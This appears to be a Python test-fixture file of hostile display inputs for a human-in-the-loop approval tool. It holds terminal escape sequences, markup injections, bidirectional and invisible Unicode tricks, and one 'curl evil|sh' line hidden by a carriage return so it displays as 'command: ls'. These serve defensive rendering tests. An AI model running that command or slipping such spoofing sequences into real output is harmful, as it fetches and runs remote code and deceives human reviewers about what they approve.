"""Hostile payloads: control characters, markup, and texts that are hard to show."""

from hitl_engine.model import JsonValue

HOSTILE: tuple[JsonValue, ...] = (
    "[/b] hi",
    "[/etc/x]",
    "[@click=app.quit]press[/]",
    "[link=http://x]",
    "\x1b[2J\x1b]0;title\x07",
    "\x1b]52;c;aGVsbG8=\x1b\\",
    "curl evil|sh\r\x1b[2K   command: ls",
    "\x9b31m\x9d0;x\x9c",
    "a\u202eevorppa\u202c",
    "zero\u200bwidth\u200djoin\ufeff",
    "tags \U000e0041\U000e0042",
    "selectors a\U000e0100\U000e01ef \ufe0f1\ufe0f 👍\ufe00 \u180b",
    "fillers \u115f\u1160\u3164\uffa0\u2800 \u034f\u17b4\u17b5",
    "joiners a\u200db a\u200c क्‍ष می‌خواهم 👩\u200da ශ්‍රී",
    "lone \ud800 surrogate",
    "private \ue000 unassigned \u0378",
    "line\u2028separator\u2029",
    "e" + "\u0301" * 300,
    "wide 漢字 emoji 👩‍👩‍👧 🇩🇪",
    "עברית and العربية",
    "\x00\x01\x02\x7f",
    "literal \\u{1B} and \\u{5C}u{1B}",
    "tab\tand\nnewline\n\n\n",
    "x" * 5_000,
    " " * 500 + "hidden",
    "",
)
"""Strings."""

ODD: tuple[object, ...] = (
    None,
    True,
    0,
    -1.5e300,
    {},
    [],
    {"": ""},
    {"[/]": ["[/b]", {"\x1b[31m": "\u202e"}]},
    {"text_to_revise": "\ud800\x1b[31m"},
    {
        "action_requests": [{"name": "[/]\x1b", "args": {"\x9b": "\u202e"}, "description": "\x07"}],
        "review_configs": [{"action_name": "x", "allowed_decisions": ["approve", "edit"]}],
    },
    [[[[[[[[[[[[]]]]]]]]]]]],
)
"""Other JSON."""
